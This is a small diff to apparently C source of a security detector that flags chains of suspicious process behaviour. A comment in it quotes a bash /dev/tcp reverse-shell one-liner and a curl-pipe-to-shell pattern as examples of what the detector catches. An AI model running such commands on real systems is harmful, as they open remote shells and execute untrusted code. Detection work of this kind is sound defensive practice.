@@ -18,7 +18,7 @@
 		    K(NETTOOL_EXEC) | K(MINER_EXEC) | K(TEMP_EXEC) | K(FILELESS_EXEC))
 
 /*
- * THREATS.md §4's high-confidence chains. Most are order-insensitive on
+ * The high-confidence chains. Most are order-insensitive on
  * purpose: `bash -i >& /dev/tcp/h/p 0>&1` execs the shell before its
  * connect and dup2; a C2 connect often precedes the credential read whose
  * bytes it carries; `curl ... | sh` forks both sides at once. Persistence
